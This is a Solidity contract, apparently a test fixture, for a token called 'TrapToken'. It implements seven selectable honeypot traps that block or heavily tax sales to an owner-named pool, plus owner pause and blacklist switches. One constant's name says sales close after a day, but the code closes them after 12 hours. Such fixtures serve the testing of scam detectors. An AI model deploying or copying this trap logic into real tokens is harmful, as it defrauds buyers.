// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// @title An ERC-20 that is bought and cannot be sold as it should, for tests: how, its kind says
/// @notice Whoever made it names the pool; the traps close for what goes into that pool.
contract TrapToken {
    string public constant name = "Trap";
    string public constant symbol = "TRAP";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;

    uint256 private constant NO_SALE = 1;
    uint256 private constant SALE_TAX_OF_99 = 2;
    uint256 private constant TEN_PERCENT_EACH_WAY = 3;
    uint256 private constant DUST_ALONE = 4;
    uint256 private constant CLOSES_AFTER_A_DAY = 5;
    uint256 private constant NO_TRANSFER_BUT_TO_POOL = 6;
    uint256 private constant RETURNS_FALSE_TO_SALES = 7;

    uint256 public immutable kind;
    uint256 private immutable madeAt;
    address public owner;
    address public pool;
    bool public paused;
    mapping(address account => bool) public isBlacklisted;
    mapping(address account => uint256) public balanceOf;
    mapping(address account => mapping(address spender => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed account, address indexed spender, uint256 value);

    error Refused();

    constructor(uint256 kind_) {
        kind = kind_;
        madeAt = block.timestamp;
        owner = msg.sender;
        balanceOf[msg.sender] = totalSupply;
    }

    function setPool(address pool_) external {
        if (msg.sender != owner) revert Refused();
        pool = pool_;
    }

    function pause() external {
        if (msg.sender != owner) revert Refused();
        paused = true;
    }

    function blacklist(address account) external {
        if (msg.sender != owner) revert Refused();
        isBlacklisted[account] = true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (kind == RETURNS_FALSE_TO_SALES && to == pool && from != owner) return false;
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        if (paused || isBlacklisted[from]) revert Refused();
        bool isSale = to == pool && from != owner;
        if (isSale) {
            if (kind == NO_SALE) revert Refused();
            if (kind == DUST_ALONE && value * 20 > balanceOf[from]) revert Refused();
            if (kind == CLOSES_AFTER_A_DAY && block.timestamp > madeAt + 12 hours) revert Refused();
        } else if (kind == NO_TRANSFER_BUT_TO_POOL && from != owner && from != pool) {
            revert Refused();
        }
        uint256 kept;
        if (kind == SALE_TAX_OF_99 && isSale) kept = (value * 99) / 100;
        if (kind == TEN_PERCENT_EACH_WAY && (isSale || from == pool)) kept = value / 10;
        balanceOf[from] -= value;
        balanceOf[to] += value - kept;
        balanceOf[address(this)] += kept;
        emit Transfer(from, to, value - kept);
        return true;
    }
}
